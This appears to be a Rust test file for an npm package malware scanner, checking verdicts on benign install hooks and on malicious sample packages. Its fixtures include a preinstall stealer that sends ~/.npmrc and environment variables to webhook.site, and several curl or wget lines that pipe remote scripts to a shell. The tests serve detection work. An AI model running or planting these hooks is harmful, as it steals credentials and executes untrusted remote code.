//! End-to-end verdicts on whole packages: benign shapes of popular packages that legitimately
//! look risky must stay clean (or at most suspicious), malicious combinations must be malicious.
//! These run the public API exactly as `inspect`/`scan` will.

use bulwark_analysis::{
    NoteKind, Options, PackageFiles, Report, Verdict, analyze_package, analyze_tarball,
};

fn analyze(files: &[(&str, &str)]) -> Report {
    let package = PackageFiles::from_memory(
        files
            .iter()
            .map(|(path, text)| (*path, text.as_bytes().to_vec())),
    );
    analyze_package(&package, &Options::default())
}

fn rules(report: &Report) -> Vec<&str> {
    report
        .findings
        .iter()
        .map(|finding| finding.rule_id)
        .collect()
}

#[test]
fn esbuild_like_installer_is_not_malicious() {
    let report = analyze(&[
        (
            "package.json",
            r#"{"name":"esbuild","version":"0.25.0","scripts":{"postinstall":"node install.js"}}"#,
        ),
        (
            "install.js",
            r#"const fs = require('fs'); const https = require('https'); const child_process = require('child_process');
            function fetch(url) { return new Promise((resolve, reject) => { https.get(url, (res) => { const chunks = []; res.on('data', (c) => chunks.push(c)); res.on('end', () => resolve(Buffer.concat(chunks))); }).on('error', reject); }); }
            async function downloadDirectlyFromNPM(pkg, subpath, binPath) {
              const url = `https://registry.npmjs.org/${pkg}/-/${pkg.replace('@esbuild/', '')}-0.25.0.tgz`;
              const buffer = await fetch(url);
              fs.writeFileSync(binPath, extractFileFromTarGzip(buffer, subpath));
              fs.chmodSync(binPath, 0o755);
            }
            function validateBinaryVersion(binPath) { const stdout = child_process.execFileSync(binPath, ['--version']).toString().trim(); if (stdout !== '0.25.0') throw new Error('bad'); }
            "#,
        ),
    ]);
    assert_ne!(report.verdict, Verdict::Malicious, "{:#?}", report.findings);
}

#[test]
fn common_benign_hooks_and_reads_are_clean() {
    let cases: Vec<Vec<(&str, &str)>> = vec![
        vec![
            (
                "package.json",
                r#"{"name":"core-js","version":"3.40.0","scripts":{"postinstall":"node -e \"try{require('./postinstall')}catch(e){}\""}}"#,
            ),
            (
                "postinstall.js",
                "var env = process.env; var ADBLOCK = is(env.ADBLOCK); function is(v) { return !!v && v !== '0' && v !== 'false'; } if (!ADBLOCK) console.log('\\u001B[96mThank you for using core-js\\u001B[0m');",
            ),
        ],
        vec![
            (
                "package.json",
                r#"{"name":"bcrypt","version":"5.1.1","scripts":{"install":"node-pre-gyp install --fallback-to-build"}}"#,
            ),
            (
                "binding.gyp",
                r#"{"targets":[{"target_name":"bcrypt_lib","include_dirs":["<!(node -e \"require('nan')\")"]}]}"#,
            ),
        ],
        vec![
            (
                "package.json",
                r#"{"name":"husky","version":"9.0.0","scripts":{"prepare":"husky"}}"#,
            ),
            ("index.js", "module.exports = () => {};"),
        ],
        vec![
            (
                "package.json",
                r#"{"name":"aws-sdk-like","version":"2.0.0"}"#,
            ),
            (
                "lib/shared_ini.js",
                "const fs = require('fs'); const os = require('os'); const path = require('path'); module.exports = function load() { return fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'), 'utf8'); };",
            ),
            (
                "lib/http.js",
                "const https = require('https'); module.exports = (region) => https.request({ hostname: `sts.${region}.amazonaws.com`, method: 'POST' });",
            ),
        ],
        vec![
            ("package.json", r#"{"name":"dotenv","version":"16.0.0"}"#),
            (
                "lib/main.js",
                "const fs = require('fs'); const path = require('path'); function config() { const parsed = parse(fs.readFileSync(path.resolve(process.cwd(), '.env'), 'utf8')); for (const key of Object.keys(parsed)) { if (!Object.prototype.hasOwnProperty.call(process.env, key)) process.env[key] = parsed[key]; } } module.exports = { config };",
            ),
        ],
        vec![
            (
                "package.json",
                r#"{"name":"lodash-like","version":"4.17.21"}"#,
            ),
            (
                "lodash.js",
                "var root = typeof global == 'object' && global || Function('return this')(); function debounce(func, wait) { var timerId = setTimeout(func, wait); return timerId; } module.exports = debounce;",
            ),
        ],
    ];
    for files in cases {
        let report = analyze(&files);
        assert_eq!(
            report.verdict,
            Verdict::Clean,
            "{}: {:#?}",
            files[0].1,
            report.findings
        );
    }
}

#[test]
fn browser_download_at_install_is_at_most_suspicious() {
    let report = analyze(&[
        (
            "package.json",
            r#"{"name":"puppeteer","version":"24.0.0","scripts":{"postinstall":"node install.mjs"}}"#,
        ),
        (
            "install.mjs",
            "import https from 'node:https'; import fs from 'node:fs'; import { execFileSync } from 'node:child_process';\nconst url = `https://storage.googleapis.com/chrome-for-testing-public/${version}/linux64/chrome-linux64.zip`;\nhttps.get(url, (res) => res.pipe(fs.createWriteStream(zip)));\nfs.chmodSync(chrome, 0o755); execFileSync(chrome, ['--version']);",
        ),
    ]);
    assert_ne!(report.verdict, Verdict::Malicious, "{:#?}", report.findings);
}

#[test]
fn install_hook_stealer_is_malicious() {
    let report = analyze(&[
        (
            "package.json",
            r#"{"name":"colors-helper","version":"1.0.1","scripts":{"preinstall":"node index.js"}}"#,
        ),
        (
            "index.js",
            "const fs = require('fs'); const os = require('os'); const https = require('https');\nconst npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\nconst req = https.request({ hostname: 'webhook.site', path: '/bb8c', method: 'POST' }); req.end(JSON.stringify({ npmrc, env: process.env }));",
        ),
    ]);
    assert_eq!(report.verdict, Verdict::Malicious, "{:#?}", report.findings);
    let ids = rules(&report);
    assert!(
        ids.contains(&"sensitive-file-access") && ids.contains(&"env-harvesting"),
        "{ids:?}"
    );
}

#[test]
fn bun_bootstrapper_is_malicious() {
    let report = analyze(&[
        (
            "package.json",
            r#"{"name":"@ctrl/x","version":"4.1.2","scripts":{"preinstall":"node setup_bun.js"}}"#,
        ),
        (
            "setup_bun.js",
            "const { execSync } = require('child_process'); execSync('curl -fsSL https://bun.sh/install | bash'); execSync('bun bun_environment.js');",
        ),
    ]);
    assert_eq!(report.verdict, Verdict::Malicious, "{:#?}", report.findings);
}

#[test]
fn obfuscation_alone_is_only_suspicious() {
    let mut code = String::from(
        "var _0x1a2b=['log','hi'];(function(_0x3c4d,_0x5e6f){while(!![]){_0x3c4d['push'](_0x3c4d['shift']());}})(_0x1a2b,0x1a3);",
    );
    for index in 0..40 {
        code.push_str(&format!(
            "var _0xab{index:02}=function(_0xcd{index:02}){{return _0x1a2b[_0xcd{index:02}];}};"
        ));
    }
    let package = PackageFiles::from_memory([("index.js", code.into_bytes())]);
    let report = analyze_package(&package, &Options::default());
    assert_eq!(
        report.verdict,
        Verdict::Suspicious,
        "{:#?}",
        report.findings
    );
}

#[test]
fn pathological_files_become_notes() {
    let deep = format!("require{}", "(".repeat(30_000));
    let report = analyze(&[
        ("deep.js", deep.as_str()),
        (
            "ok.js",
            "require('child_process').exec('curl http://1.2.3.4/x | sh');",
        ),
    ]);
    assert!(
        report
            .notes
            .iter()
            .any(|note| note.file == "deep.js" && note.kind == NoteKind::TooLarge),
        "{:#?}",
        report.notes
    );
    assert!(
        report
            .findings
            .iter()
            .any(|finding| finding.file == "ok.js"),
        "the rest of the package is still analysed"
    );
    // Moderately deep nesting goes through the big-stack watchdog thread instead of crashing.
    let nested = format!("{}1{}", "[".repeat(5_000), "]".repeat(5_000));
    let report = analyze(&[("nested.js", nested.as_str())]);
    assert_eq!(report.verdict, Verdict::Clean);
    // Binary junk with a .js name is not a crash either.
    let package =
        PackageFiles::from_memory([("junk.js", vec![0xff, 0xfe, 0x00, 0x28, 0x28, 0x7b])]);
    let _ = analyze_package(&package, &Options::default());
}

#[test]
fn report_serialises_with_stable_names() {
    let report = analyze(&[(
        "package.json",
        r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"curl -s https://x.example/i.sh | sh"}}"#,
    )]);
    let json = serde_json::to_value(&report).expect("serialise");
    assert_eq!(json["verdict"], "malicious");
    assert_eq!(json["package"]["name"], "a");
    let finding = &json["findings"][0];
    for key in [
        "rule_id",
        "severity",
        "confidence",
        "message",
        "file",
        "line",
        "column",
        "evidence",
    ] {
        assert!(finding.get(key).is_some(), "missing `{key}`");
    }
    assert_eq!(finding["rule_id"], "lifecycle-script");
    assert_eq!(finding["severity"], "critical");
}

#[test]
fn tarball_and_directory_give_the_same_report() {
    let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(
        Vec::new(),
        flate2::Compression::fast(),
    ));
    let files: [(&str, &str); 2] = [
        (
            "package/package.json",
            r#"{"name":"t","version":"1.0.0","scripts":{"postinstall":"node i.js"}}"#,
        ),
        (
            "package/i.js",
            "require('child_process').exec('wget http://1.2.3.4/x');",
        ),
    ];
    for (path, text) in files {
        let mut header = tar::Header::new_gnu();
        header.set_size(text.len() as u64);
        header.set_mode(0o644);
        header.set_path(path).expect("path");
        header.set_cksum();
        builder.append(&header, text.as_bytes()).expect("append");
    }
    let bytes = builder.into_inner().expect("tar").finish().expect("gzip");
    let from_tarball = analyze_tarball(&bytes, &Options::default()).expect("tarball");
    let directory = tempfile::tempdir().expect("tempdir");
    for (path, text) in files {
        let target = directory.path().join(path.trim_start_matches("package/"));
        std::fs::write(target, text).expect("write");
    }
    let from_directory =
        bulwark_analysis::analyze_dir(directory.path(), &Options::default()).expect("dir");
    assert_eq!(from_tarball, from_directory);
    assert_eq!(from_tarball.verdict, Verdict::Malicious);
}
